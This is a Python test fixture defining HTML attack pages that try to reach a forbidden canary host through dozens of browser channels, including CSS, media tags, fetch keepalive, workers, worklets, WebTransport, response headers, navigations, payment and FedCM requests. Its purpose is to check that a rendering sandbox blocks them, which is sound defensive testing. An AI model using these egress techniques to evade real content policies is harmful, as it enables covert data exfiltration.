"""Attack pages beyond the first (``ATTACK`` in `tests.test_render_policy`): more ways a page
can reach a forbidden host, each aimed at the canary at a path (or label) of its own, so the
control can check every one of them from an unguarded browser.

``MORE`` holds the techniques that leave the page where it is: markup that fetches
(``<object>``, ``<embed>``, ``srcset``, ``imagesrcset``, ``poster``, ``<video>`` and
``<audio>``, ``<input type=image>``, SVG ``<image>``, CSS ``@import``, ``url()``, cursors,
masks and ``@font-face``, ``modulepreload``, a compression dictionary, a ``srcdoc`` frame
that fetches), script (``fetch`` with ``keepalive``, ``XMLHttpRequest``, ``fetchLater``, an
``<a ping>`` clicked, ``WebSocketStream``, ``localhost``), workers (``importScripts``,
``import()``), worklets (paint, audio), WebTransport (HTTP/3: QUIC over UDP), and headers of
the allowed response itself (``Link`` preload, modulepreload and prefetch, a CSP report,
``Speculation-Rules``). The others have pages of their own: each navigation away (a meta
refresh, ``location``, a ``Refresh`` header), a ``<base>`` on the canary, and the two
fetches the browser makes itself over HTTPS (a payment method's manifest, an identity
provider's configuration), whose TLS handshakes only their page tells apart.

Tried and left out, as they reach nothing from an unguarded Debian Chromium 156 (headless):
``<link rel=preconnect>`` (in markup or a ``Link`` header: no connection), a ``Link``
stylesheet header, ``<link rel=manifest>``, ``<link rel=prerender>``, ``attributionsrc``,
``sharedStorage.worklet``, ``joinAdInterestGroup``, a ``Notification`` icon, ``<track>``,
an external SVG ``<use>``, an XSLT stylesheet of an XML page.

Templates: ``$C`` is the canary's URL, ``$PORT`` its TCP port, ``$UDP`` its UDP port.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from string import Template


@dataclass(frozen=True)
class AttackPage:
    """A page of techniques, and what each sends the canary from an unguarded browser."""

    html: str
    reaches: tuple[str, ...]
    headers: dict[str, str] = field(default_factory=dict)

    def page(self, values: dict[str, object]) -> str:
        return Template(self.html).substitute(values)

    def response_headers(self, values: dict[str, object]) -> dict[str, str]:
        return {name: Template(v).substitute(values) for name, v in self.headers.items()}


#: Shows the page's article (the shell app) and sets ``window.attackDone``.
SHOW = """const show = () => {
  if (window.attackDone !== undefined) return;
  window.attackDone = false;
  const app = document.createElement("script");
  app.src = "/_shell/app.js";
  app.onload = () => { window.attackDone = true; };
  document.body.appendChild(app);
};
const attempt = (f) => { try { f(); } catch (e) {} };"""
HEAD = '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"/><title>Daily8</title>'

MORE = AttackPage(
    HEAD
    + """
<style>@import url("$C/style-import.css");
@font-face { font-family: canary; src: url("$C/font.woff2"); }
body { background-image: url("$C/style-url.png"); font-family: canary;
  cursor: url("$C/cursor.png"), auto; mask-image: url("$C/mask.png"); }</style>
<link rel="modulepreload" href="$C/modulepreload.js">
<link rel="compression-dictionary" href="$C/dictionary">
<link rel="preload" as="image" imagesrcset="$C/imagesrcset.png 1x">
</head><body><div id="__next"></div>
<object data="$C/object"></object>
<embed src="$C/embed">
<img srcset="$C/srcset.png 1x" alt="">
<input type="image" src="$C/input-image.png" alt="">
<video poster="$C/poster.png" src="$C/video.mp4" preload="auto"></video>
<audio src="$C/audio.mp3" preload="auto"></audio>
<svg><image href="$C/svg-image.png" width="10" height="10"/></svg>
<iframe srcdoc="<img src='$C/srcdoc-image.png'><script>fetch('$C/srcdoc-fetch')</script>">
</iframe>
<a id="ping" ping="$C/ping" href="#pinged">p</a>
<script>
"""
    + SHOW
    + """
const C = "$C";
attempt(() => fetch(C + "/keepalive", {keepalive: true, method: "POST", body: "x"}).catch(() => 0));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", C + "/xhr"); x.send(); });
attempt(() => fetchLater(C + "/fetch-later", {activateAfter: 0}));
attempt(() => document.getElementById("ping").click());
attempt(() => new WebSocketStream("ws://127.0.0.1:$PORT/websocket-stream").opened.catch(() => 0));
attempt(() => fetch("http://localhost:$PORT/localhost").catch(() => 0));
attempt(() => new Worker("/more-worker.js"));
attempt(() => new Worker("/more-module.js", {type: "module"}));
attempt(() => CSS.paintWorklet.addModule(C + "/paint-worklet.js").catch(() => 0));
attempt(() => new AudioContext().audioWorklet.addModule(C + "/audio-worklet.js").catch(() => 0));
attempt(() => new WebTransport("https://127.0.0.1:$UDP/webtransport").ready.catch(() => 0));
addEventListener("load", () => setTimeout(show, 1500));
</script></body></html>
""",
    reaches=(
        "/style-import.css",
        "/font.woff2",
        "/style-url.png",
        "/cursor.png",
        "/mask.png",
        "/modulepreload.js",
        "/dictionary",
        "/imagesrcset.png",
        "/object",
        "/embed",
        "/srcset.png",
        "/input-image.png",
        "/poster.png",
        "/video.mp4",
        "/audio.mp3",
        "/svg-image.png",
        "/srcdoc-image.png",
        "/srcdoc-fetch",
        "/ping",
        "/keepalive",
        "/xhr",
        "/fetch-later",
        "/websocket-stream",
        "/localhost",
        "/worker-import-scripts.js",
        "/worker-import.js",
        "/paint-worklet.js",
        "/audio-worklet.js",
        "(udp: quic initial)",
        "/link-preload.js",
        "/link-modulepreload.js",
        "/link-prefetch",
        "/csp-report",
        "/speculation-rules.json",
    ),
    headers={
        "Link": "<$C/link-preload.js>; rel=preload; as=script, "
        "<$C/link-modulepreload.js>; rel=modulepreload, <$C/link-prefetch>; rel=prefetch",
        # Reports only: the images above still load.
        "Content-Security-Policy-Report-Only": "img-src 'none'; report-uri $C/csp-report",
        "Speculation-Rules": '"$C/speculation-rules.json"',
    },
)
#: The site files of `MORE`'s workers.
MORE_FILES = {
    "more-worker.js": 'importScripts("$C/worker-import-scripts.js");\n',
    "more-module.js": 'import("$C/worker-import.js").catch(() => 0);\n',
}


def navigation(head: str = "", script: str = "") -> str:
    """A page that never shows an article; its script makes it a shell for ``RENDER=auto``."""
    return (
        f'{HEAD}{head}</head><body><div id="__next"></div><script>{script}</script></body></html>'
    )


#: The pages of their own: name -> page.
ISOLATED = {
    "meta-refresh": AttackPage(
        navigation(head='<meta http-equiv="refresh" content="0; url=$C/meta-refresh">'),
        reaches=("/meta-refresh",),
    ),
    "location": AttackPage(
        navigation(script='addEventListener("load", () => { location.href = "$C/location"; });'),
        reaches=("/location",),
    ),
    "refresh-header": AttackPage(
        navigation(),
        reaches=("/refresh-header",),
        headers={"Refresh": "0; url=$C/refresh-header"},
    ),
    # Every relative URL resolves on the canary until the <base> is removed.
    "base": AttackPage(
        HEAD
        + """<base href="$C/base/"><script src="based.js"></script>
</head><body><div id="__next"></div><img src="based.png" alt=""><script>
"""
        + SHOW
        + """
addEventListener("load", () => { document.querySelector("base").remove(); show(); });
</script></body></html>
""",
        reaches=("/base/based.js", "/base/based.png"),
    ),
    # The browser fetches the payment method's manifest (HTTPS: a TLS handshake).
    "payment": AttackPage(
        HEAD
        + """</head><body><div id="__next"></div><script>
"""
        + SHOW
        + """
setTimeout(show, 3000);
attempt(() => new PaymentRequest([{supportedMethods: "https://127.0.0.1:$PORT/pay"}],
  {total: {label: "x", amount: {currency: "USD", value: "1"}}})
  .canMakePayment().finally(show));
</script></body></html>
""",
        reaches=("(tcp: tls)",),
    ),
    # FedCM: the browser fetches the identity provider's configuration (HTTPS).
    "fedcm": AttackPage(
        HEAD
        + """</head><body><div id="__next"></div><script>
"""
        + SHOW
        + """
setTimeout(show, 3000);
attempt(() => navigator.credentials.get({identity: {providers: [
  {configURL: "https://127.0.0.1:$PORT/fedcm.json", clientId: "x"}]}}).finally(show));
</script></body></html>
""",
        reaches=("(tcp: tls)",),
    ),
}
